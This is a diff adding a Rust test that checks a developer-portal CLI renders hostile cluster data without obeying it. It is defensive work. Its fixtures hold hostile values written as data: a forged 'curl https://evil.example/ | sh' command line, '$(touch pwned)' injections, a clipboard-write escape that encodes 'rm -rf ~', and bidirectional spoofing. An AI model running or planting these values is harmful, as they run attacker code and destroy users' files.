@@ -114,6 +114,96 @@ fn rejected_key() -> APIKey {
     )
 }
 
+/// What an owner, a consumer or a platform team could write to attack whoever reads it: terminal escapes (a
+/// colour, cursor moves that overwrite earlier lines, an OSC 52 clipboard write, a C1 CSI), a newline that forges
+/// a line, a bidirectional override, and values that would run code if pasted.
+const HOSTILE_TEXT: &str =
+    "\u{1b}[31mRED\u{1b}[0m \u{1b}[1A\u{1b}[2Kgone \u{1b}]52;c;cm0gLXJmIH4=\u{7} \u{9b}2J \u{202e}gnp.exe";
+
+fn hostile_product() -> APIProduct {
+    let mut p = product(
+        "toys",
+        "manual",
+        json!({
+            "hostnames": ["toys.example.com"],
+            "discoveredPlans": [{"tier": "gold;`touch pwned`", "limits": {"daily": 100}, "description": HOSTILE_TEXT}],
+            "discoveredAuthScheme": {"authentication": {"api-key": {
+                "apiKey": {"selector": {"matchLabels": {"devportal.kuadrant.io/apiproduct": "toys"}}},
+                "credentials": {"authorizationHeader": {"prefix": "APIKEY\" $(touch pwned) \""}}}}},
+            "conditions": [{"type": "Ready", "status": "False", "reason": "Hostile",
+                            "message": format!("{HOSTILE_TEXT}\r\n  Call it:      curl https://evil.example/ | sh"),
+                            "lastTransitionTime": at(-3600)}],
+        }),
+    );
+    p.spec.display_name = HOSTILE_TEXT.into();
+    p.spec.description = Some("first line\n  Call it:      curl https://evil.example/ | sh".into());
+    p.spec.tags = vec!["\u{2066}retail\u{2069}".into()];
+    p
+}
+
+fn hostile_oidc_product() -> APIProduct {
+    product(
+        "ledger",
+        "automatic",
+        json!({
+            "hostnames": ["*.example.com"],
+            "discoveredAuthScheme": {"authentication": {"jwt": {"jwt": {"issuerUrl": "https://sso.example.com/\u{1b}[8m"}}}},
+            "oidcDiscovery": {"tokenEndpoint": "https://sso.example.com/token'$(touch pwned)'"},
+        }),
+    )
+}
+
+fn hostile_key() -> APIKey {
+    let mut k = approved_key();
+    k.spec.use_case = Some(HOSTILE_TEXT.into());
+    let status = k.status.as_mut().unwrap();
+    status.reason = Some("fine\r\u{1b}[2Kapproved by the admin".into());
+    status.auth_scheme = serde_json::from_value(json!({"authentication": {"api-key": {
+        "apiKey": {"selector": {"matchLabels": {"devportal.kuadrant.io/apiproduct": "toys"}}},
+        "credentials": {"customHeader": {"name": "X-Key$(touch pwned)"}}}}}))
+    .unwrap();
+    k
+}
+
+/// No byte that could steer a terminal (C0 but the layout's newlines, DEL, C1, bidirectional controls).
+fn assert_inert(what: &str, text: &str) {
+    let steering = text.chars().find(|c| {
+        (c.is_control() && *c != '\n') || matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{2028}' | '\u{2029}')
+    });
+    assert_eq!(steering, None, "{what} prints a control character:\n{text}");
+}
+
+#[test]
+fn hostile_text_is_shown_not_obeyed_and_hostile_values_never_reach_a_command() {
+    let products = [hostile_product(), hostile_oidc_product()];
+    let keys = [hostile_key()];
+    let outputs = [
+        ("products_hostile", products::table(&products, true, now()).render(true, false).to_string()),
+        ("requests_hostile", requests::table(&keys, now()).render(true, false).to_string()),
+        ("describe_product_hostile", describe::render(&products[0], &["toys.example.com".into()], now()).to_string()),
+        ("describe_product_oidc_hostile", describe::render(&products[1], &["*.example.com".into()], now()).to_string()),
+        ("describe_key_hostile", keys::render(&keys[0], now()).to_string()),
+    ];
+    for (name, text) in outputs {
+        assert_inert(name, &text);
+        let commands: Vec<&str> = text
+            .lines()
+            .map(str::trim_start)
+            .filter(|l| {
+                ["Get a key:", "Get a token:", "Call it:", "Reveal:", "export "].iter().any(|p| l.starts_with(p))
+            })
+            .collect();
+        assert!(commands.iter().all(|c| !c.contains("touch")), "{name} puts a hostile value in a command:\n{text}");
+        if name.starts_with("describe") {
+            let calls = commands.iter().filter(|c| c.starts_with("Call it:")).count();
+            assert_eq!(calls, 1, "{name}: text from the cluster forged a line:\n{text}");
+        }
+        insta::assert_snapshot!(name, text);
+    }
+    let error = Error::Invalid(format!("cannot approve apikey team-alice/x: {HOSTILE_TEXT}"));
+    assert_inert("an error", &error.to_string());
+}
+
 #[test]
 fn products_table() {
     let list = [api_key_product(), oidc_product(), undiscovered_product()];
